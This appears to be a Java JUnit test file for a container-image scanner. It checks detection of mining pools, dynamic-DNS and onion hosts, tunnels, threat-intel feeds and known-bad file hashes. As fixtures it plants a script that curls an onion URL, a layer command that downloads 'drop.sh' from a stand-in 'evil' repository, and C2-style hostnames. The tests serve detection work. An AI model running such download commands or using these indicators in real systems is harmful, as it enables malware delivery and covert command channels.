package dev.contraband.detect.network;

import dev.contraband.detect.Category;
import dev.contraband.detect.Finding;
import dev.contraband.feed.FeedParser;
import dev.contraband.feed.FeedSet;
import dev.contraband.feed.HashFeed;
import dev.contraband.layer.Compression;
import dev.contraband.sample.ImageBuilder;
import dev.contraband.sample.ImageWriter;
import dev.contraband.sample.LayerBuilder;
import dev.contraband.sample.SampleElf;
import dev.contraband.scan.Detectors;
import dev.contraband.scan.ImageReport;
import dev.contraband.scan.Scanner;
import dev.contraband.layer.ScanLimits;
import dev.contraband.detect.secret.SecretRuleSet;
import dev.contraband.source.PlatformSelection;
import dev.contraband.source.Sources;
import dev.contraband.source.Target;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Network indicators through the pipeline, with built-in and user feeds, and known-bad hashes. */
class NetworkDetectionTest {
    @TempDir
    Path tmp;

    private ImageReport scan(ImageBuilder b, FeedSet feeds, HashFeed hashes) throws IOException {
        ImageWriter.ociLayout(tmp.resolve("img"), "t", b.build());
        Scanner scanner = new Scanner(Detectors.with(SecretRuleSet.builtIn(), feeds, hashes), ScanLimits.DEFAULT);
        try (var source = Sources.open(Target.parse("oci:" + tmp.resolve("img")))) {
            return scanner.scan("oci:" + tmp.resolve("img"), source.images(PlatformSelection.DEFAULT).getFirst());
        }
    }

    private static List<Finding> of(ImageReport r, String rule) {
        return r.findings().stream().filter(f -> f.rule().id().equals(rule)).toList();
    }

    @Test
    void scan_builtInFeeds_poolsTunnelsDynDnsOnionInFilesBinariesEnvAndLabels() throws IOException {
        byte[] elf = SampleElf.program();
        byte[] binary = new byte[elf.length + 64];
        System.arraycopy(elf, 0, binary, 0, elf.length);
        byte[] host = "\0XMR-EU1.nanopool.org:14444\0".getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(host, 0, binary, elf.length + 4, host.length);
        ImageReport r = scan(ImageBuilder.create()
                        .layer(LayerBuilder.create()
                                .file("/usr/bin/helper", binary, 0755)
                                .file("/etc/app.conf", "upstream = c2.duckdns.org\nmirror = mynanopool.org\n# safe: nanopool.org.example.com\n")
                                .file("/app/run.sh", "#!/bin/sh\ncurl http://expyuzz4wqqyqhjn.onion/x\n"))
                        .env("TUNNEL=https://abc.trycloudflare.com/hook")
                        .label("org.example.pool", "pool.supportxmr.com:443"),
                FeedSet.builtIn(), HashFeed.empty());
        assertThat(of(r, "network.cryptomining")).extracting(Finding::indicator)
                .contains("xmr-eu1.nanopool.org:14444", "pool.supportxmr.com:443");
        assertThat(of(r, "network.dynamic-dns")).extracting(Finding::indicator).containsExactly("c2.duckdns.org");
        assertThat(of(r, "network.proxy-avoidance")).extracting(Finding::indicator).containsExactly("https://abc.trycloudflare.com/hook");
        assertThat(of(r, "network.onion-address")).extracting(Finding::indicator).containsExactly("expyuzz4wqqyqhjn.onion");
        assertThat(r.findings()).noneMatch(f -> f.indicator() != null && f.indicator().contains("mynanopool"));
    }

    @Test
    void scan_userFeedsStixCidrUrlAndNrd_matchInFilesAndHistory() throws IOException {
        Path stix = tmp.resolve("intel.json");
        Files.writeString(stix, """
                {"type": "bundle", "id": "bundle--x", "objects": [
                  {"type": "indicator", "pattern_type": "stix", "pattern": "[domain-name:value = 'c2.badcorp.example']"},
                  {"type": "indicator", "pattern_type": "stix", "pattern": "[ipv4-addr:value = '203.0.113.0/24']"}]}
                """);
        Path nrd = tmp.resolve("nrd.csv");
        Files.writeString(nrd, "domain,created\nfresh-login.example,2026-11-28\nold-shop.example,2019-05-01\n");
        FeedSet feeds = FeedSet.of(FeedSet.builtInFeeds(), List.of(
                FeedSet.load(stix, Category.MALICIOUS_WEBSITE),
                FeedSet.load(nrd, Category.NEWLY_REGISTERED_DOMAIN),
                FeedParser.parse("https://github.com/evil/x/raw/main/drop.sh\ngithub.com\n".getBytes(), "urls", Category.MALICIOUS_WEBSITE)),
                30, LocalDate.of(2026, 12, 1));
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                        .file("/srv/app/settings.py", "API = 'https://api.c2.badcorp.example/v1'\nPEER = '203.0.113.45:8443'\n"
                                + "LOGIN = 'https://fresh-login.example/'\nSHOP = 'old-shop.example'\nHOME = 'https://github.com/'\n"),
                        Compression.GZIP, "/bin/sh -c curl -fsSL https://github.com/evil/x/raw/main/drop.sh -o /d"),
                feeds, HashFeed.empty());
        assertThat(of(r, "network.malicious-website")).extracting(Finding::indicator)
                .contains("api.c2.badcorp.example", "203.0.113.45:8443", "https://github.com/evil/x/raw/main/drop.sh");
        assertThat(of(r, "network.newly-registered-domain")).extracting(Finding::indicator).containsExactly("fresh-login.example");
        assertThat(r.findings()).noneMatch(f -> "github.com".equals(f.indicator()));
    }

    @Test
    void scan_hashFeedSha256ListAndHsb_knownFilesFound() throws IOException {
        byte[] payload = "#!/bin/sh\necho pretend payload\n".getBytes(StandardCharsets.UTF_8);
        String sha = java.util.HexFormat.of().formatHex(dev.contraband.image.Digest.newSha256().digest(payload));
        Path list = tmp.resolve("bad.sha256");
        Files.writeString(list, sha + "  xmrig-dropper.sh\n");
        Path hsb = tmp.resolve("bad.hsb");
        Files.writeString(hsb, sha + ":" + payload.length + ":Unix.Trojan.Generic\n");
        ImageReport fromList = scan(ImageBuilder.create().layer(LayerBuilder.create().file("/tmp/x.sh", payload, 0755)),
                FeedSet.builtIn(), HashFeed.load(List.of(list)));
        assertThat(of(fromList, "miner.known-hash")).singleElement().satisfies(f -> assertThat(f.indicator()).isEqualTo("sha256:" + sha));
        ImageReport fromHsb = scan(ImageBuilder.create().layer(LayerBuilder.create().file("/tmp/x.sh", payload, 0755)),
                FeedSet.builtIn(), HashFeed.load(List.of(hsb)));
        assertThat(of(fromHsb, "hash.known-bad-file")).singleElement().satisfies(f -> assertThat(f.message()).contains("Unix.Trojan.Generic"));
        assertThat(fromHsb.verdict().status().id()).isEqualTo("malicious");
    }
}
